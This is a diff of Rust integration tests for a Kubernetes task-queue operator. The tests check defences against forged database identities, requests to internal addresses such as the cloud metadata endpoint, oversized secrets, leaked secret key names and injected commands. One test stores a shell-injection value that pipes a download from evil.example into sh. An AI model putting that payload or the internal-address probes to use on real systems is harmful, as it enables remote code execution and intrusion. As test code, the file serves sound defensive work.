@@ -14,11 +14,11 @@ use tokio::net::{TcpListener, TcpStream};
 use tokio_rustls::TlsAcceptor;
 use url::Url;
 
-use super::stage::{EMAILS, Stage, until};
+use super::harness::{EMAILS, Harness, until};
 
-/// The database of the stage by another user.
-fn url_of(stage: &Stage, user: &str) -> String {
-    let mut url = Url::parse(&postgres::url(&stage.db.name)).unwrap();
+/// The database of the harness by another user.
+fn url_of(harness: &Harness, user: &str) -> String {
+    let mut url = Url::parse(&postgres::url(&harness.db.name)).unwrap();
     url.set_username(user).unwrap();
     url.set_password(Some("secret")).unwrap();
     url.into()
@@ -72,7 +72,7 @@ async fn behind_tls(authority: &Authority, server: u16) -> u16 {
     port
 }
 
-impl Stage {
+impl Harness {
     /// Waits until a condition of `emails` is so and says that.
     async fn until_says(&self, type_: &str, expected: &str, says: &str) {
         until(&format!("{type_} is {expected} and says {says}"), || {
@@ -90,38 +90,38 @@ impl Stage {
 /// Before, there was no way to give the certificates of a private authority.
 #[tokio::test(flavor = "multi_thread")]
 async fn certificates_come_from_the_cluster_and_are_followed() {
-    let stage = Stage::new("certificates").await;
-    stage.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
-    let _operator = stage.operator().await;
+    let harness = Harness::new("certificates").await;
+    harness.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
+    let _operator = harness.operator().await;
     let missing = "there is no ConfigMap `ca`: create it";
-    stage.until_says("Stalled", "True CertificateInvalid", missing).await;
+    harness.until_says("Stalled", "True CertificateInvalid", missing).await;
     let apply = |pem: &str| {
-        stage.apply(&json!({
+        harness.apply(&json!({
             "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "ca" }, "data": { "ca.crt": pem }
         }).to_string());
     };
     apply("no certificate");
-    stage
+    harness
         .until_says(
             "Stalled",
             "True CertificateInvalid",
             "`ca.crt` of the ConfigMap `ca` (spec.database.caRef)",
         )
         .await;
-    let (stranger, authority) = (Authority::new(), Authority::new());
-    apply(&stranger.pem());
+    let (untrusted, authority) = (Authority::new(), Authority::new());
+    apply(&untrusted.pem());
     // The server of the tests speaks no TLS, so it cannot prove itself: that is asked for now, though the URL does not say so.
-    stage.until_says("DatabaseReachable", "False CertificateInvalid", "does not speak TLS").await;
-    let mut url = Url::parse(&postgres::url(&stage.db.name)).unwrap();
+    harness.until_says("DatabaseReachable", "False CertificateInvalid", "does not speak TLS").await;
+    let mut url = Url::parse(&postgres::url(&harness.db.name)).unwrap();
     let port = behind_tls(&authority, url.port().unwrap()).await;
     url.set_host(Some("localhost")).unwrap();
     url.set_port(Some(port)).unwrap();
-    stage.secret(url.as_str());
-    let strangers = "signed by no authority that is known";
-    stage.until_says("Stalled", "True CertificateInvalid", strangers).await;
+    harness.secret(url.as_str());
+    let refusal = "signed by no authority that is known";
+    harness.until_says("Stalled", "True CertificateInvalid", refusal).await;
     apply(&authority.pem());
-    stage.until("Ready", "True Succeeded").await;
-    let pod = stage.deployment()["spec"]["template"]["spec"].clone();
+    harness.until("Ready", "True Succeeded").await;
+    let pod = harness.deployment()["spec"]["template"]["spec"].clone();
     let sources = pod["volumes"][0]["projected"]["sources"].clone();
     assert_eq!(
         sources[1]["configMap"],
@@ -132,34 +132,34 @@ async fn certificates_come_from_the_cluster_and_are_followed() {
 /// Before, the pods had the owner's password, and a login with the rights of a worker could not be used in a cluster.
 #[tokio::test(flavor = "multi_thread")]
 async fn pods_get_a_login_of_their_own_if_it_can_do_their_work() {
-    let stage = Stage::new("worker-secret").await;
-    let role = format!("pods_{}", stage.db.name);
-    stage.db.run(format!("create role {role} login password 'secret'")).await;
-    stage.task_queue("emails", &with_database("workerSecretRef: { name: pods }"));
-    let _operator = stage.operator().await;
+    let harness = Harness::new("worker-secret").await;
+    let role = format!("pods_{}", harness.db.name);
+    harness.db.run(format!("create role {role} login password 'secret'")).await;
+    harness.task_queue("emails", &with_database("workerSecretRef: { name: pods }"));
+    let _operator = harness.operator().await;
     let place = "the container `worker` of the pods connects by `uri` of the Secret `pods`";
-    stage.until_says("Stalled", "True SecretNotFound", place).await;
-    stage.secret_named("pods", &url_of(&stage, &role));
-    stage.until_says("Stalled", "True AccessDenied", "rowlock.grant_role('USER', 'worker')").await;
-    stage.until_says("Stalled", "True AccessDenied", place).await;
+    harness.until_says("Stalled", "True SecretNotFound", place).await;
+    harness.secret_named("pods", &url_of(&harness, &role));
+    harness.until_says("Stalled", "True AccessDenied", "rowlock.grant_role('USER', 'worker')").await;
+    harness.until_says("Stalled", "True AccessDenied", place).await;
     let other = rowlock_tests::TestDb::empty().await;
-    stage.secret_named("pods", &postgres::url(&other.name));
-    stage
+    harness.secret_named("pods", &postgres::url(&other.name));
+    harness
         .until_says("Stalled", "True SecretInvalid", &format!("it leads to the database {}", other.name))
         .await;
-    assert_eq!(stage.deployment(), json!(null), "no pod is made that could not work");
-    stage.db.run(format!("select rowlock.grant_role('{role}', 'worker')")).await;
-    stage.secret_named("pods", &url_of(&stage, &role));
-    stage.until("Ready", "True Succeeded").await;
-    let volumes = stage.deployment()["spec"]["template"]["spec"]["volumes"].to_string();
+    assert_eq!(harness.deployment(), json!(null), "no pod is made that could not work");
+    harness.db.run(format!("select rowlock.grant_role('{role}', 'worker')")).await;
+    harness.secret_named("pods", &url_of(&harness, &role));
+    harness.until("Ready", "True Succeeded").await;
+    let volumes = harness.deployment()["spec"]["template"]["spec"]["volumes"].to_string();
     assert!(volumes.contains("pods") && !volumes.contains("\"db\""), "{volumes}");
-    stage.db.run(format!("drop owned by {role} cascade; drop role {role}")).await;
+    harness.db.run(format!("drop owned by {role} cascade; drop role {role}")).await;
 }
 
 /// Before, a tenant's own server only had to say that it is another tenant's: then it was asked how much that one's queues had to do.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_forged_database_scales_nobody_elses_pods() {
-    let (innocent, forger) = (Stage::new("innocent").await, Stage::new("forger").await);
+    let (innocent, forger) = (Harness::new("innocent").await, Harness::new("forger").await);
     let forge = format!(
         "do $do$ begin
            perform set_config('allow_system_table_mods', 'on', true);
@@ -174,12 +174,12 @@ async fn a_forged_database_scales_nobody_elses_pods() {
         .operator_with(|config| (config.namespace, config.class) = (None, Some(innocent.namespace.clone())))
         .await;
     // The one that comes first looks for both.
-    for (stage, queue) in [(&forger, "own"), (&innocent, "mail")] {
-        stage.task_queue("emails", &EMAILS.replace("queueName: mail", &format!("queueName: {queue}")));
-        stage.kubectl(&["label", "tq", "emails", &class]);
-        stage.until("Ready", "True Succeeded").await;
+    for (harness, queue) in [(&forger, "own"), (&innocent, "mail")] {
+        harness.task_queue("emails", &EMAILS.replace("queueName: mail", &format!("queueName: {queue}")));
+        harness.kubectl(&["label", "tq", "emails", &class]);
+        harness.until("Ready", "True Succeeded").await;
     }
-    let identity = |stage: &Stage| stage.get("tq", "emails")["status"]["database"]["identity"].clone();
+    let identity = |harness: &Harness| harness.get("tq", "emails")["status"]["database"]["identity"].clone();
     assert_eq!(identity(&forger), identity(&innocent), "the one says that it is the other");
     // It says so of the other's queue as well, which has much to do there.
     let of = |column: &str| format!("select {column} from rowlock.queue where name = 'mail'");
@@ -205,15 +205,15 @@ async fn a_forged_database_scales_nobody_elses_pods() {
 /// Before, the operator connected to whatever a Secret said from where it runs, and told what it found there.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_operator_does_not_ask_what_only_it_can_reach() {
-    let stage = Stage::new("reach").await;
-    stage.task_queue("emails", EMAILS);
+    let harness = Harness::new("reach").await;
+    harness.task_queue("emails", EMAILS);
     let change = |config: &mut rowlock_operator::kubernetes::Config| {
         config.allowed_database_hosts.clear();
         config.refused_database_hosts = vec!["192.0.2.0/24".into()];
     };
-    let _operator = stage.operator_with(change).await;
+    let _operator = harness.operator_with(change).await;
     // The database itself, which is on this machine.
-    stage.until_says("Stalled", "True SecretInvalid", "the operator does not run in your pod").await;
+    harness.until_says("Stalled", "True SecretInvalid", "the operator does not run in your pod").await;
     for (url, says) in [
         (
             "postgres://u:secretpassword@169.254.169.254:80/d",
@@ -237,9 +237,9 @@ async fn the_operator_does_not_ask_what_only_it_can_reach() {
         ),
         ("postgres://u:secretpassword@db/d?sslmode=verify-full&sslrootcert=/dev/zero", "sslrootcert"),
     ] {
-        stage.secret(url);
-        stage.until_says("DatabaseReachable", "False SecretInvalid", says).await;
-        let (_, message) = stage.condition("emails", "DatabaseReachable");
+        harness.secret(url);
+        harness.until_says("DatabaseReachable", "False SecretInvalid", says).await;
+        let (_, message) = harness.condition("emails", "DatabaseReachable");
         assert!(message.contains("Secret `db`") && !message.contains("secretpassword"), "{message}");
     }
 }
@@ -247,26 +247,26 @@ async fn the_operator_does_not_ask_what_only_it_can_reach() {
 /// Before, several copies of whatever a Secret held were kept: a hundred Secrets of a MiB ended the operator.
 #[tokio::test(flavor = "multi_thread")]
 async fn secrets_and_certificates_are_as_long_as_a_database_needs() {
-    let stage = Stage::new("lengths").await;
-    stage.secret(&format!("postgres://u:{}@db/d", "secretpassword".repeat(2000)));
-    stage.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
-    let _operator = stage.operator().await;
+    let harness = Harness::new("lengths").await;
+    harness.secret(&format!("postgres://u:{}@db/d", "secretpassword".repeat(2000)));
+    harness.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
+    let _operator = harness.operator().await;
     let says = "`uri` of the Secret `db` has 28018 bytes, which is no URL of a database";
-    stage.until_says("Stalled", "True SecretInvalid", says).await;
-    stage.secret(&postgres::url(&stage.db.name));
+    harness.until_says("Stalled", "True SecretInvalid", says).await;
+    harness.secret(&postgres::url(&harness.db.name));
     let pem = Authority::new().pem().repeat(1000);
     let config_map = json!({
         "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "ca" }, "data": { "ca.crt": pem }
     });
-    stage.apply(&config_map.to_string());
-    stage.until_says("Stalled", "True CertificateInvalid", "262144 are taken").await;
+    harness.apply(&config_map.to_string());
+    harness.until_says("Stalled", "True CertificateInvalid", "262144 are taken").await;
 }
 
 /// Before, who may write a `TaskQueue` could read the names of all keys of any Secret of the namespace.
 #[tokio::test(flavor = "multi_thread")]
 async fn of_a_secret_only_usual_names_are_told() {
-    let stage = Stage::new("keys").await;
-    stage.kubectl(&[
+    let harness = Harness::new("keys").await;
+    harness.kubectl(&[
         "create",
         "secret",
         "generic",
@@ -274,34 +274,34 @@ async fn of_a_secret_only_usual_names_are_told() {
         "--from-literal=apikey=x",
         "--from-literal=url=x",
     ]);
-    stage.task_queue("emails", &EMAILS.replace("name: db", "name: other"));
-    let _operator = stage.operator().await;
-    let message = stage.until("Stalled", "True SecretInvalid").await;
+    harness.task_queue("emails", &EMAILS.replace("name: db", "name: other"));
+    let _operator = harness.operator().await;
+    let message = harness.until("Stalled", "True SecretInvalid").await;
     assert!(message.contains("has no key `uri` but url: set") && !message.contains("apikey"), "{message}");
 }
 
 /// Before, an owner that somebody wrote into the database became a part of a command to paste.
 #[tokio::test(flavor = "multi_thread")]
 async fn what_a_database_says_is_no_part_of_a_command() {
-    let stage = Stage::new("paste").await;
-    rowlock_queue::declare(&stage.db.db, &rowlock_tests::declaration("mail")).await.unwrap();
-    stage
+    let harness = Harness::new("paste").await;
+    rowlock_queue::declare(&harness.db.db, &rowlock_tests::declaration("mail")).await.unwrap();
+    harness
         .db
         .run("update rowlock.queue set owner = $$x'; curl -s http://evil.example/x | sh; echo `id` '$$")
         .await;
-    stage.task_queue("emails", EMAILS);
-    let _operator = stage.operator().await;
-    let message = stage.until("Stalled", "True OwnedByAnother").await;
+    harness.task_queue("emails", EMAILS);
+    let _operator = harness.operator().await;
+    let message = harness.until("Stalled", "True OwnedByAnother").await;
     assert!(!message.contains("kubectl") && !message.contains('`'), "{message}");
 }
 
 /// Before, a mistyped annotation did nothing and nobody said so.
 #[tokio::test(flavor = "multi_thread")]
 async fn names_of_ours_that_mean_nothing_are_told() {
-    let stage = Stage::new("names").await;
-    stage.task_queue("emails", EMAILS);
-    stage.kubectl(&["annotate", "tq", "emails", "rowlock.dev/adpot=x"]);
-    let _operator = stage.operator().await;
-    let events = stage.until_event("UnknownName").await;
+    let harness = Harness::new("names").await;
+    harness.task_queue("emails", EMAILS);
+    harness.kubectl(&["annotate", "tq", "emails", "rowlock.dev/adpot=x"]);
+    let _operator = harness.operator().await;
+    let events = harness.until_event("UnknownName").await;
     assert!(events.contains("did you mean `rowlock.dev/adopt`?"), "{events}");
 }
